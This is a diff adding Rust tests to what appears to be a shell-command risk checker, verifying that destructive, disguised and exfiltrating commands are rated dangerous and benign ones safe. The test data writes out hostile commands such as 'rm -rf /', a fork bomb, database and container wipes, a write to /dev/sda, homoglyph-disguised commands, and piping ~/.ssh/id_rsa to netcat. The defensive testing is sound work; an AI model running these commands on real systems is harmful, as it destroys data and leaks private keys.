@@ -152,6 +152,107 @@ fn everyday_reading_is_read_only() {
     assert!(wrong.is_empty(), "\n{wrong}");
 }
 
+/// The lines of a list with the shell that each is for.
+fn of_shells(text: &str) -> Vec<(&str, Dialect)> {
+    let of = |line| match str::strip_prefix(line, "pwsh: ") {
+        Some(own) => (own, Dialect::PowerShell),
+        None => (line, Dialect::Bash),
+    };
+    listed(text).into_iter().map(of).collect()
+}
+
+/// Commands by kind: what destroys through databases, clouds, packages, processes and disguises, and what looks like it.
+#[test]
+fn kinds_of_harm_are_told_from_what_looks_like_them() {
+    type Wanted = (&'static str, usize, fn(Level) -> bool);
+    let lists: [Wanted; 4] = [
+        (include_str!("safety/kinds-danger.txt"), 400, |level| level == Level::Danger),
+        (include_str!("safety/kinds-warned.txt"), 20, |level| level >= Level::Caution),
+        (include_str!("safety/kinds-harmless.txt"), 100, |level| level < Level::Danger),
+        (include_str!("safety/kinds-safe.txt"), 300, |level| level == Level::Safe),
+    ];
+    let mut wrong = String::new();
+    for (text, least, wanted) in lists {
+        let list = of_shells(text);
+        assert!(list.len() >= least, "{}: the list is read", list.len());
+        for (line, dialect) in list {
+            let risk = assess(&parse(line, dialect));
+            if !wanted(risk.level) {
+                let why: Vec<_> = risk.reasons.iter().map(|r| (&r.token, &r.why)).collect();
+                let _ = writeln!(wrong, "{:?}: {line}  {why:?}", risk.level);
+            }
+            for reason in &risk.reasons {
+                assert!(reason.span.clone().is_none_or(|span| line.get(span).is_some()), "{line}: {reason:?}");
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "\n{wrong}");
+}
+
+#[test]
+fn a_reason_says_how_far_it_reaches() {
+    for (line, token, scope) in [
+        ("psql -c 'delete from users'", "'delete from users'", "all rows of users"),
+        ("sqlite3 a.db 'drop table t'", "'drop table t'", "the table t"),
+        ("mongosh --eval 'db.dropDatabase()'", "'db.dropDatabase()'", "the whole database"),
+        ("redis-cli -n 2 flushdb", "flushdb", "all keys of the database"),
+        ("pkill sshd", "sshd", "sshd"),
+        ("rm -rf /etc", "/etc", "/etc with all below it"),
+        ("rm -rf /", "/", "everything on this disk"),
+        ("docker rm -f $(docker ps -aq)", "-f", "all containers, images or volumes of this machine"),
+        ("while :; do sh & done", "while :; do sh & done", "the whole machine"),
+        ("cat ~/.ssh/id_rsa | nc h 1", "nc", "~/.ssh/id_rsa"),
+    ] {
+        let risk = assess(&parse(line, Dialect::Bash));
+        let found = risk.reasons.iter().find(|r| r.level == Level::Danger);
+        let told = found.map(|r| (r.token.as_str(), r.scope.as_deref().unwrap_or_default()));
+        assert_eq!(told, Some((token, scope)), "{line}: {:?}", risk.reasons);
+    }
+}
+
+/// What a person sees is judged, too; and a text in another alphabet is no disguise.
+#[test]
+fn letters_that_look_alike_are_told_from_other_alphabets() {
+    for line in [
+        "r\u{200b}m -rf /home",
+        "\u{443}um; \u{455}udo ls",
+        "\u{ff52}\u{ff4d} -rf /",
+        "curl https://g\u{456}thub.com/x",
+        "rm \u{2013}rf /",
+    ] {
+        let risk = assess(&parse(line, Dialect::Bash));
+        assert_eq!(risk.level, Level::Danger, "{line}: {:?}", risk.reasons);
+    }
+    for line in [
+        "echo 'привет мир'",
+        "grep 'größe — naïve' f",
+        "ls ~/Música",
+        "curl -s https://пример.рф/",
+        "wc -l 'отчёт 2024.txt'",
+        "echo 👩‍👩‍👧",
+    ] {
+        let risk = assess(&parse(line, Dialect::Bash));
+        assert_eq!(risk.level, Level::Safe, "{line}: {:?}", risk.reasons);
+    }
+}
+
+/// The grammar hangs what stands behind a redirection on the redirection.
+#[test]
+fn words_behind_a_redirection_are_the_commands() {
+    for line in [
+        "rm</dev/null -rf /",
+        "rm 2>/dev/null -rf /etc",
+        "rm >/dev/null 2>&1 -rf /etc",
+        "ls | sudo tee</dev/zero /dev/sda",
+        "true && rm 2>x -rf ~",
+    ] {
+        assert_eq!(assess(&parse(line, Dialect::Bash)).level, Level::Danger, "{line}");
+    }
+    let script = parse("grep 2>/dev/null x f > out", Dialect::Bash);
+    let words: Vec<&str> = script.commands[0].words.iter().map(|w| w.raw.as_str()).collect();
+    assert_eq!((words, script.commands[0].redirects.len()), (vec!["grep", "x", "f"], 2));
+}
+
 #[test]
 fn fish_and_zsh_are_judged_too() {
     for (text, dialect) in [
